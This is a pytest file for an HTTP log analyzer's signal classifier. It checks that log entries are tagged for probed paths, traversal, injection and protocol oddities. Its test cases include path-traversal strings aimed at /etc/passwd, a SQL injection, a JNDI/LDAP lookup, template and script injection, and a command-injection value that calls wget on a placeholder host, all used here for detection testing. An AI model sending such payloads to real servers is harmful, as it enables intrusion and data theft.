"""SIGNALS: each is given by its example, not by its counterexample, and never by the unknown."""

import pytest
from made_entries import labelled

from analyzer.classify.signal import Signal, SignalRule
from analyzer.classify.signals import SIGNALS

TIMED = dict.fromkeys(("blocked", "dns", "connect", "tls", "send", "wait", "receive"))
SERVER = [{"name": "server", "value": "x"}]
BY_NAME = [
    pytest.param(rule, id=rule.signal.value) for rule in SIGNALS if rule.signal != "dropped_etag"
]  # whose proof is in tests/relate, for it takes two responses


def test_every_signal_has_one_rule() -> None:
    assert sorted(rule.signal for rule in SIGNALS) == sorted(Signal)


@pytest.mark.parametrize("rule", BY_NAME)
def test_its_example_gives_it(rule: SignalRule) -> None:
    assert rule.signal in labelled(rule.example)["signals"]


@pytest.mark.parametrize("rule", BY_NAME)
def test_its_counterexample_does_not(rule: SignalRule) -> None:
    assert rule.signal not in labelled(rule.counterexample)["signals"]


@pytest.mark.parametrize("rule", BY_NAME)
def test_the_unknown_gives_nothing(rule: SignalRule) -> None:
    if rule.signal is not Signal.OVERSIZED_REQUEST:  # which the status alone says
        assert labelled({"status": rule.example.get("status")})["signals"] == []


@pytest.mark.parametrize("rule", BY_NAME)
def test_it_says_why_and_where_that_stands(rule: SignalRule) -> None:
    assert rule.says.endswith(".")
    assert "§" in rule.spec


@pytest.mark.parametrize(
    ("columns", "signals"),
    [
        (
            {"status": 400, "defect": "TLS on a plain port"},
            ["malformed_request", "tls_on_plain_port"],
        ),
        ({"status": 400, "defect": "no HTTP version"}, ["malformed_request"]),
        ({"status": 400, "defect": "empty request"}, []),
        ({"status": 200, "method": "GET", "bytes": 0, "cache": "disk"}, []),
        ({"status": 200, "method": "GET", "bytes": None}, []),
        ({"status": 403, "user": "alice"}, ["refused_though_authenticated"]),
        ({"status": 304, "request_headers": [{"name": "if-none-match", "value": "x"}]}, []),
        ({"status": 404, "path": "/shop/.env"}, ["probed_path"]),
        ({"status": 404, "path": "/.environment"}, []),
        (
            {"status": 404, "path": "/../../etc/passwd"},
            ["probed_path", "traversal_attempt"],
        ),
        ({"status": 200, "path": "/", "query": "f=....//....//"}, ["traversal_attempt"]),
        ({"status": 200, "path": "/", "query": "f=%252e%252e%252fx"}, ["traversal_attempt"]),
        ({"status": 200, "path": "/", "query": "n='+or+1=1--"}, ["injection_attempt"]),
        ({"status": 200, "path": "/", "query": "x=${jndi:ldap://a/b}"}, ["injection_attempt"]),
        ({"status": 200, "path": "/", "query": "x=%3CScript%3E"}, ["injection_attempt"]),
        ({"status": 200, "path": "/", "query": "h=a;wget+http://x"}, ["injection_attempt"]),
        ({"status": 200, "path": "/", "query": "q='black'+and+'white'"}, []),
        ({"status": 200, "path": "/", "query": "q=O%27Hara+or+O%27Neill"}, []),
        ({"status": 200, "path": "/", "query": "n=%7B%7B7*7%7D%7D"}, ["injection_attempt"]),
        ({"status": 200, "path": "/image/%7B%7BbasketItem.id%7D%7D"}, []),  # the site's own slip
        ({"status": 200, "path": "/2024/../", "query": None}, ["traversal_attempt"]),
        ({"status": 200, "path": "/descriptions/sleeping-bags", "query": "url=http://a.b/"}, []),
        ({"status": 404, "path": "/WP-Login.php"}, ["probed_path"]),
        ({"status": 404, "path": "/products/shelled-nuts"}, []),
        ({"status": 404, "path": None}, []),
        ({"status": 301, "method": "GET"}, []),
        ({"status": 307, "method": "POST"}, []),
        ({"status": 101, "response_headers": []}, ["long_lived", "no_upgrade"]),
        (
            {"status": 103, "response_headers": [{"name": "content-length", "value": "0"}]},
            ["forbidden_length"],
        ),
        ({"status": 204, "bytes": 5, "response_headers": []}, ["forbidden_content"]),
        ({"status": 204, "bytes": 25}, []),  # nginx counts the bytes of 100 Continue
        ({"status": 205, "response_headers": []}, []),
        ({"status": 200, "timings": TIMED, "scheme": "http", "response_headers": []}, []),
        ({"status": 500, "timings": TIMED, "scheme": "http", "response_headers": SERVER}, []),
        ({"status": 200, "timings": TIMED, "scheme": "data", "response_headers": SERVER}, []),
        ({"status": 200, "scheme": "http", "response_headers": SERVER}, []),  # Caddy logs no Date
        (
            {
                "status": 304,
                "timings": TIMED,
                "request_headers": [{"name": ":authority", "value": "a"}],
            },
            ["unconditional_304"],
        ),
        ({"status": 405, "method": "TRACE", "path": "/"}, ["probed_method"]),
        ({"status": None, "scheme": "wss"}, ["long_lived"]),
        ({"status": 200, "media": "text/event-stream"}, ["long_lived"]),
        ({"status": 200, "media": "text/plain", "scheme": "https"}, []),
        (
            {"status": 405, "method": "PUT", "path": "/cgi-bin/x", "response_headers": []},
            ["probed_method", "probed_path", "no_allow"],
        ),
    ],
)
def test_an_entry_gives_all_that_hold(columns: dict[str, object], signals: list[str]) -> None:
    assert labelled(columns)["signals"] == signals
